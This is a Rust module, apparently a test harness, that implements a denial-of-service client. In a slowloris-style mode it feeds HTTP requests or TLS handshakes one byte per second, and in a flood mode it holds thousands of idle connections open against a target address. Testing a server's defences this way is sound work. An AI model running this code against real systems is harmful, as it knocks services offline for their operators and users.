//! An abusive client: hundreds of slow connections or thousands of idle ones, from one address.

use clap::ValueEnum;
use std::{
    io,
    net::{Ipv4Addr, SocketAddr},
    time::Duration,
};
use tokio::{
    io::AsyncWriteExt,
    net::{TcpSocket, TcpStream},
    task::JoinSet,
    time::{Instant, sleep, sleep_until, timeout},
};

const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum AttackKind {
    /// Send a byte per second on each connection
    Slow,
    /// Only open connections
    Flood,
}

/// Numbers of connections.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttackSummary {
    pub opened: u64,
    pub failed: u64,
}

pub async fn attack(
    kind: AttackKind,
    target: Ipv4Addr,
    source: Option<Ipv4Addr>,
    connections: usize,
    length: Duration,
) -> AttackSummary {
    let until = Instant::now() + length;
    let mut running = JoinSet::new();
    for number in 0..connections {
        // Slow TLS handshakes and slow plaintext requests.
        let port = if number % 2 == 0 { 443 } else { 80 };
        running.spawn(async move {
            let Ok(stream) = connect(SocketAddr::from((target, port)), source).await else { return false };
            match kind {
                AttackKind::Slow => send_slowly(stream, port, until).await,
                AttackKind::Flood => sleep_until(until).await,
            }
            true
        });
        if kind == AttackKind::Flood && number % 100 == 99 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    let mut summary = AttackSummary::default();
    while let Some(opened) = running.join_next().await {
        if opened.unwrap_or_default() {
            summary.opened += 1;
        } else {
            summary.failed += 1;
        }
    }
    summary
}

async fn connect(target: SocketAddr, source: Option<Ipv4Addr>) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Some(source) = source {
        socket.bind(SocketAddr::from((source, 0)))?;
    }
    timeout(CONNECT_TIMEOUT, socket.connect(target)).await?
}

/// A byte per second of a request, or of a `ClientHello`.
async fn send_slowly(mut stream: TcpStream, port: u16, until: Instant) {
    let text: &[u8] =
        if port == 80 { b"GET / HTTP/1.1\r\nHost: toast.test\r\nX-Slow: " } else { &[22, 3, 1, 2, 0, 1, 0, 1] };
    let mut at = 0;
    while Instant::now() < until {
        let byte = text.get(at).copied().unwrap_or(b'a');
        if stream.write_all(&[byte]).await.is_err() {
            return;
        }
        at += 1;
        sleep(Duration::from_secs(1)).await;
    }
}
